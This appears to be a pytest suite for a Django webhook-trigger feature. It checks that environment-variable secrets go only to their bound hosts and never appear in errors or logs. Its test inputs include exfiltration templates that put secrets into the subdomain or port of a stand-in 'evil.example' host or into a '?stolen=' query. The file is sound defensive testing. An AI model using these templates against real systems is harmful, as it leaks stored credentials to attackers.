"""What an environment variable holds goes to the hosts that it is bound to, whoever edits the trigger."""

import json
from typing import Any

import pytest
from django.core import checks
from hypothesis import given
from hypothesis import strategies as st
from pytest_django import Settings

from notifications import triggers
from notifications.exceptions import InvalidTrigger
from notifications.triggers.bindings import bindings, check_bound
from notifications.triggers.environment import NotBound
from notifications.triggers.receiver import origin_text, receiver_of
from tests.notifications.triggers.conftest import MakeEvent, deliver, invocations
from tests.support.receiver import Receiver

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.guarantee(n=21)]

HEADERS = [{"name": "X-Shop", "value_from_env": "HOOK_SHOP"}]
SECRET = "value-of-hook"


@pytest.fixture(autouse=True)
def shop_variable(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOOK_SHOP", SECRET)


@pytest.mark.parametrize(
    "change",
    [
        {"headers": HEADERS},
        {"webhook": "/{{HOOK_SHOP}}"},
        {"webhook": "/{{HOOK_SHOP}}", "request_transform": {"url": "{base}/?{{{{ base_url }}}}"}},
        {"headers": HEADERS, "request_transform": {"url": "{base}/?{{{{ body.id }}}}"}},
        {"headers": HEADERS, "request_transform": {"url": "{{{{ body.payload }}}}"}},
    ],
)
def test_a_variable_that_is_bound_elsewhere_is_not_sent(
    make_event: MakeEvent,
    receiver: Receiver,
    allow_loopback: dict[str, Any],
    change: dict[str, Any],
) -> None:
    """It was bound to this receiver when the trigger was written, and is not any more."""
    allow_loopback["TRIGGER_ENV_HOSTS"] = ["HOOK_SHOP=127.0.0.1"]
    given_change = {**change, "payload": receiver.url}
    if "webhook" in change:
        given_change["webhook"] = receiver.url + change["webhook"]
    if "request_transform" in change:
        url = change["request_transform"]["url"].format(base=receiver.url)
        given_change["request_transform"] = {"url": url}
    event = make_event(**given_change)
    allow_loopback["TRIGGER_ENV_HOSTS"] = ["HOOK_SHOP=shop.example", "HOOK_OTHER=127.0.0.1"]
    event = deliver(event)
    assert event.status == "error"
    assert receiver.received == []
    [row] = invocations(event)
    said = row.response["data"]["message"]
    assert "HOOK_SHOP may not be sent to 127.0.0.1" in said
    assert "bound to: shop.example" in said
    assert SECRET not in str([row.request, row.response, event.reason])


@pytest.mark.parametrize(
    "address",
    [
        "https://{{HOOK_SHOP}}.evil.example/",
        "https://{{HOOK_PIN}}.evil.example/{{HOOK_SHOP}}",
        "https://shop.example:{{HOOK_PIN}}/",
        "https://shop.example:1{{HOOK_PIN}}/",
    ],
)
def test_no_error_tells_what_a_variable_holds(
    address: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever may edit a trigger could read them by putting them into the host or the port."""
    monkeypatch.setenv("HOOK_PIN", "4711")
    with pytest.raises(InvalidTrigger) as refusal:
        triggers.create_cron_trigger("sly", webhook=address, schedule="0 3 * * *")
    assert SECRET not in str(refusal.value)
    assert "4711" not in str(refusal.value)


@pytest.mark.parametrize(
    "url",
    [
        "https://{{ base_url | last }}.evil.example/",
        "https://{{ base_url | last | upper }}.evil.example/",
        "https://shop.example:{{ base_url | last }}/",
    ],
)
def test_no_log_of_a_call_tells_what_a_variable_holds(
    make_event: MakeEvent,
    allow_loopback: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
    url: str,
) -> None:
    allow_loopback["TRIGGER_ENV_HOSTS"] = ["HOOK_SHOP=shop.example"]
    allow_loopback["OUTGOING_PORTS"] = [80, 443]
    monkeypatch.setenv("HOOK_SHOP", "9")
    event = make_event(webhook="https://shop.example/{{HOOK_SHOP}}", request_transform={"url": url})
    event = deliver(event)
    assert event.status == "error"
    [row] = invocations(event)
    assert "9" not in str([row.response["data"], event.reason])


@pytest.mark.parametrize(
    "transform",
    [
        {"body": {"action": "transform", "template": '{"a": {{ base_url | upper }} }'}},
        {"url": "{{ base_url }}?{{ base_url | upper | urlencode }}"},
        {"query_params": {"a": "{{ base_url | upper }}"}},
        {"request_headers": {"add_headers": {"X-A": "{{ base_url | upper }}"}}},
        {"query_params": {"a": "{{ base_url | truncate(LENGTH) }}"}},  # all but the last letters
    ],
)
def test_no_log_shows_what_a_transform_made_of_a_variable(
    make_event: MakeEvent,
    receiver: Receiver,
    allow_loopback: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
    transform: dict[str, Any],
) -> None:
    """The receiver may have it; whoever edits and looks at triggers may not."""
    monkeypatch.setenv("HOOK_SHOP", "tK8s0meSecretWord99")
    length = len(receiver.url) + 12
    transform = json.loads(json.dumps(transform).replace("LENGTH", str(length)))
    allow_loopback["TRIGGER_ENV_HOSTS"] = ["HOOK_SHOP=127.0.0.1"]
    event = make_event(
        webhook=receiver.url + "/{{HOOK_SHOP}}", request_transform={"version": "2", **transform}
    )
    deliver(event)
    assert len(receiver.received) == 1
    [row] = invocations(event)
    assert "tk8s0me" not in str([row.request, row.response]).lower()


def test_a_transform_sends_no_variable_to_another_host(
    make_event: MakeEvent, receiver: Receiver, allow_loopback: dict[str, Any]
) -> None:
    allow_loopback["TRIGGER_ENV_HOSTS"] = ["HOOK_SHOP=shop.example"]
    event = make_event(
        webhook="https://shop.example/{{HOOK_SHOP}}",
        request_transform={"url": receiver.url + "/?stolen={{ base_url }}"},
    )
    assert deliver(event).status == "error"
    assert receiver.received == []


def test_a_variable_that_is_bound_to_the_host_is_sent(
    make_event: MakeEvent, receiver: Receiver, allow_loopback: dict[str, Any]
) -> None:
    allow_loopback["TRIGGER_ENV_HOSTS"] = ["HOOK_SHOP=shop.example", "HOOK_SHOP=127.0.0.1"]
    assert deliver(make_event(headers=HEADERS)).status == "delivered"
    assert receiver.received[0].headers["x-shop"] == SECRET


@pytest.mark.parametrize("webhook", ["{{HOOK_BASE}}", "http://{{HOOK_HOST}}:{port}/in"])
def test_an_address_in_a_variable_needs_no_binding(
    make_event: MakeEvent, receiver: Receiver, monkeypatch: pytest.MonkeyPatch, webhook: str
) -> None:
    monkeypatch.setenv("HOOK_BASE", receiver.url)
    monkeypatch.setenv("HOOK_HOST", "127.0.0.1")
    event = make_event(webhook=webhook.replace("{port}", str(receiver.port)))
    assert deliver(event).status == "delivered"


def test_a_definition_is_refused_at_once_where_that_is_known(receiver: Receiver) -> None:
    with pytest.raises(InvalidTrigger, match=r"headers: HOOK_SHOP may not be sent to 127\.0"):
        triggers.create_cron_trigger(
            "x", webhook=receiver.url, schedule="0 3 * * *", headers=HEADERS
        )
    with pytest.raises(InvalidTrigger, match=r"webhook: HOOK_SHOP may not be sent to 127\.0"):
        triggers.create_cron_trigger(
            "x", webhook=receiver.url + "/{{HOOK_SHOP}}", schedule="0 3 * * *"
        )


@pytest.mark.parametrize(
    ("entry", "host", "is_bound"),
    [
        ("HOOK_SHOP=api.example.com", "api.example.com", True),
        ("HOOK_SHOP=API.example.com", "api.example.com", True),
        ("HOOK_SHOP=*.example.com", "api.example.com", True),
        ("HOOK_SHOP=*.example.com", "a.b.example.com", True),
        ("HOOK_SHOP=*.example.com", "example.com", False),
        ("HOOK_SHOP=*.example.com", "evilexample.com", False),
        ("HOOK_SHOP=example.com", "api.example.com", False),
        ("HOOK_SHOP=example.com", "example.com.evil.example", False),
        ("HOOK_SHO=example.com", "example.com", False),
    ],
)
def test_hosts_are_whole_names_or_all_below_one(
    settings: Settings, entry: str, host: str, is_bound: bool
) -> None:
    settings.BELLRINGER = {**settings.BELLRINGER, "TRIGGER_ENV_HOSTS": [entry]}
    url = f"https://{host}/hook"
    if is_bound:
        check_bound(["HOOK_SHOP"], url, shows_host=True)
    else:
        with pytest.raises(NotBound):
            check_bound(["HOOK_SHOP"], url, shows_host=True)


@pytest.mark.parametrize("entry", ["HOOK_SHOP", "=x", "A=", "A=*", "A=https://x", "A=x/y", "1=x"])
def test_an_entry_that_binds_nothing_is_told_at_the_start(settings: Settings, entry: str) -> None:
    settings.BELLRINGER = {**settings.BELLRINGER, "TRIGGER_ENV_HOSTS": [entry]}
    [found] = [one for one in checks.run_checks() if "TRIGGER_ENV_HOSTS" in one.msg]
    assert repr(entry) in found.msg


def test_bindings_of_one_variable_add_up() -> None:
    assert bindings(("A=x", " B=*.y ", "A=::1")) == {"A": ("x", "::1"), "B": ("*.y",)}


@given(st.text(), st.text(), st.text(alphabet="/?#:@{}.[]\\ ab"))
def test_the_same_receiver_is_never_said_of_two_hosts(path: str, other: str, rest: str) -> None:
    """Whatever is written behind a host, only what belongs to the path leaves the receiver as it was."""
    first = receiver_of(webhook=f"https://shop.example/{path}")
    second = receiver_of(webhook=f"https://shop.example{rest}")
    if rest and rest[0] not in "/?#":
        assert first != second or not rest.strip()
    assert receiver_of(webhook=f"https://{other}.evil.example/") != first
    assert isinstance(origin_text(other), str)
